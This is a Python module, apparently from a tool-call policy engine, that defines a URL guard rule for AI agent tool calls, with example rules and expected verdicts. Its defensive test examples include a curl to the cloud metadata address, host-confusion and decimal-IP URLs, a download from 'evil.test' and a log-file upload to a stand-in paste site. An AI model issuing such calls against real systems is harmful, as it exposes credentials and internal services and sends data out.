"""`url`: which hosts may be reached, over which scheme and port."""

from __future__ import annotations

from typing import TYPE_CHECKING, Literal, NoReturn

from attrs import frozen

from ..kind import (
    Case,
    Effect,
    EffectKind,
    Example,
    Guard,
    Kind,
    Mention,
    Phase,
    Resolver,
    Seeks,
    Setting,
    Tri,
    UrlPattern,
    UrlTarget,
    any_of,
    denies_url,
    grants_url,
    in_ranges,
    param,
    shown,
)

if TYPE_CHECKING:
    from hypothesis.strategies import SearchStrategy

Range = Literal["loopback", "link-local", "private", "metadata"]
Redirects = Literal["judge", "ignore"]


@frozen
class Url:
    """Allow, refuse or confine the hosts that a call connects to, by whatever tool or command.

    A pattern is `scheme://host:port/path`. `*.example.com` is any depth under `example.com` and not itself. No
    port means the scheme's own; no scheme means http and https, and in a deny any; no path means every path.

    A host is compared as clients resolve it: lower case, IDNA, without a trailing dot, an address in whatever
    spelling. Where two clients could read a URL differently, a deny looks at both readings and a grant gives none.

    A range is compared with addresses, and with names that say themselves where they lead (`localhost`,
    `127.0.0.1.nip.io`). With `resolve = true` other names are looked up as well, once for each call. A name is
    refused if any of its addresses lies in a refused range, and unknown where nobody answers, where it is looked up
    in a container or on another host, and where the engine has no resolver. Text without a role is looked up only
    where it has a scheme. A lookup tells the name to whoever runs its zone, whatever becomes of the call.

    Proxies and overrides of resolvers are connections too, and so is wherever the redirects lead that a command
    follows (`curl -L`, `wget`, `git clone` over http), which nobody can see. It is unknown to `allow` and `only`, so
    that such a command asks although they name its URL, and to `deny_ranges` of a rule that looks names up. A `deny`
    pattern does not look at it: a server that wants to pass on what another one says needs no redirect for that, and
    to ask about every `git clone` would teach people to say yes. `redirects` says otherwise for the whole rule.

    **Limits.** `http_get` dials the very addresses that were judged, and each redirect is a call of its own that is
    judged before it is followed. Of other tools and commands nobody knows this: they look names up again, and a
    server that answers differently then leads them elsewhere; a tool may follow redirects that it does not mention,
    and use a proxy that is set outside of the call. Give such a tool no network but a proxy that refuses the ranges.
    """

    allow: tuple[str, ...] | None = param("Patterns of URLs that are granted.", default=None)
    deny: tuple[str, ...] | None = param("Patterns of URLs that are refused.", default=None)
    only: tuple[str, ...] | None = param("Patterns of the only URLs that may be reached; grants nothing.", default=None)
    deny_ranges: tuple[Range, ...] | None = param(
        "Ranges of addresses that are refused: `loopback`, `link-local`, `private`, `metadata`.", default=None
    )
    resolve: bool = param(
        "With `true` names are looked up, to see whether they lead into `deny_ranges`.", default=False
    )
    redirects: Redirects | None = param(
        "Where a command follows redirects, `judge` lets no list pass what nobody can see, and `ignore` looks only at "
        "the URL that it begins with; without it `allow` and `only` judge, and `deny_ranges` with `resolve`.",
        default=None,
    )


_ABOUT: frozenset[EffectKind] = frozenset({"connect", "mention", "unknown", "code"})


def compile_url(fields: Url, setting: Setting) -> Guard:
    """Compile the patterns, and compare them with each reading of a URL."""
    allow = setting.patterns("allow", fields.allow, UrlPattern.compile)
    deny = setting.patterns("deny", fields.deny, UrlPattern.compile)
    only = setting.patterns("only", fields.only, UrlPattern.compile) or (allow if setting.otherwise else ())
    ranges = fields.deny_ranges or ()
    if fields.resolve and not ranges:
        setting.problem(("resolve",), "says-nothing", *_IDLE)

    judges = fields.redirects != "ignore"

    def grants(effect: Effect, _: Case) -> Tri:
        target = effect.target
        if not isinstance(target, UrlTarget):
            return False
        return grants_url(allow, target if judges or target.origin is None else target.origin)

    def denies(effect: Effect, case: Case) -> Tri:
        target = _url(effect)
        if target is None or (target.origin is not None and not judges):
            return False
        seen = target.origin is None or fields.redirects == "judge"
        found = denies_url(deny, target) if seen else False
        # What a pattern refuses is not looked up, for a lookup is heard by others.
        if found is not True and (seen or fields.resolve):
            found = any_of((found, in_ranges(target, ranges, _resolver(effect, case) if fields.resolve else None)))
        return found is True if effect.kind == "mention" else found

    def confines(effect: Effect, _: Case) -> Tri:
        target = _url(effect)
        # A text without a scheme is as likely no URL at all; a deny still looks at it.
        if target is None or (isinstance(effect.target, Mention) and not _has_scheme(effect.target)):
            return True
        return True if target.origin is not None and not judges else grants_url(only, target)

    return Guard(
        grants=grants if allow else None,
        denies=denies if deny or ranges else None,
        confines=confines if only else None,
        about=_ABOUT,
        covers=frozenset({"connect"}),
        offer=", ".join(f"`{pattern.text}`" for pattern in only or allow),
        resolves=fields.resolve,
        seeks=None if only or ranges else Seeks(urls=(*allow, *deny)),
    )


_IDLE = (
    "`resolve` stands there without `deny_ranges`",
    "where a name leads is compared with ranges of addresses, and there are none",
    "add `deny_ranges`, or leave `resolve` out",
)


def _url(effect: Effect) -> UrlTarget | None:
    """The URL that the effect connects to or mentions."""
    target = effect.target
    if isinstance(target, Mention):
        return target.url
    return target if isinstance(target, UrlTarget) else None


def _has_scheme(mention: Mention) -> bool:
    return "://" in shown(mention.text)


def _resolver(effect: Effect, case: Case) -> Resolver | None:
    """Who is asked where the names of *effect* lead, `None` for nobody."""
    if isinstance(effect.target, Mention) and not _has_scheme(effect.target):
        return None
    return case.places.names if effect.place.kind == "local" else _elsewhere


def _elsewhere(host: str) -> NoReturn:  # noqa: ARG001 - it stands for a resolver
    raise OSError("it is looked up in a container or on another host, and not here")


def _strategy() -> SearchStrategy[Url]:
    from hypothesis import strategies as st

    patterns = st.sampled_from(
        [
            "https://*",
            "https://example.com",
            "*.example.com",
            "http://127.0.0.1:8080/a/*",
            "https://*.test:443",
            "ssh://*",
        ]
    )
    lists = st.lists(patterns, min_size=1, max_size=3, unique=True).map(tuple)
    ranges = st.lists(st.sampled_from(["loopback", "link-local", "private", "metadata"]), min_size=1, unique=True)
    return st.builds(
        Url,
        allow=st.none() | lists,
        deny=lists,
        only=st.none() | lists,
        deny_ranges=st.none() | ranges.map(tuple),
        redirects=st.sampled_from([None, "judge", "ignore"]),
    )


KIND = Kind(
    name="url",
    phase=Phase.GUARD,
    fields=Url,
    compile=compile_url,
    examples=(
        Example(
            "One site over https",
            """\
[[rule]]
id = "docs-site"
kind = "url"
allow = ["https://example.com", "https://*.example.com"]
otherwise = "deny"

[[rule.example]]
call = { tool = "http_get", args = { url = "https://docs.example.com:443/a" } }
expect = "allow"

[[rule.example]]
call = { tool = "http_get", args = { url = "https://example.com.evil.test/" } }
expect = "deny"

[[rule.example]]
call = { tool = "http_get", args = { url = "https://example.com@evil.test/" } }
expect = "deny"
""",
        ),
        Example(
            "Nothing inside the network",
            """\
[[rule]]
id = "no-inside"
kind = "url"
deny_ranges = ["loopback", "link-local", "private", "metadata"]

[[rule.example]]
call = { tool = "http_get", args = { url = "http://2130706433/" } }
expect = "deny"
why = "this is 127.0.0.1, spelled as one number"

[[rule.example]]
call = { tool = "run_bash", args = { command = "curl -s http://169.254.169.254/latest/meta-data" } }
expect = "deny"

[[rule.example]]
call = { tool = "http_get", args = { url = "https://example.com/" } }
expect = "pass"
""",
        ),
        Example(
            "Names are looked up",
            """\
[[rule]]
id = "no-way-inside"
kind = "url"
deny_ranges = ["loopback", "link-local", "private", "metadata"]
resolve = true

[[rule.example]]
call = { tool = "http_get", args = { url = "https://wiki.example.com/" } }
resolves = { "wiki.example.com" = ["198.41.0.4", "10.1.2.3"] }
expect = "deny"
why = "one of its addresses lies inside, and a client may take that one"

[[rule.example]]
call = { tool = "http_get", args = { url = "https://example.com/" } }
resolves = { "example.com" = ["198.41.0.4"] }
expect = "pass"

[[rule.example]]
call = { tool = "http_get", args = { url = "https://example.org/" } }
expect = "ask"
why = "nobody says where this name leads"
""",
        ),
        Example(
            "Redirects are where nobody looks",
            """\
[[rule]]
id = "releases"
kind = "url"
only = ["https://example.com"]

[[rule.example]]
call = { tool = "run_bash", args = { command = "curl -s https://example.com/a.tgz" } }
expect = "pass"

[[rule.example]]
call = { tool = "run_bash", args = { command = "curl -sL https://example.com/a.tgz" } }
expect = "ask"
why = "with `-L` it goes wherever the site sends it"

[[rule]]
id = "trusted-releases"
kind = "url"
only = ["https://example.com"]
redirects = "ignore"

[[rule.example]]
call = { tool = "run_bash", args = { command = "curl -sL https://example.com/a.tgz" } }
expect = "pass"

[[rule.example]]
call = { tool = "run_bash", args = { command = "curl -sL https://evil.test/a.tgz" } }
expect = "deny"
""",
        ),
        Example(
            "Uploads are looked at",
            """\
[[rule]]
id = "paste-sites"
kind = "url"
deny = ["*.paste.example"]
effect = "ask"

[[rule.example]]
call = { tool = "run_bash", args = { command = "curl -F f=@log.txt https://a.paste.example/up" } }
expect = "ask"

[[rule.example]]
call = { tool = "run_bash", args = { command = "grep -r a.paste.example docs" } }
expect = "pass"
""",
        ),
    ),
    strategy=_strategy,
)
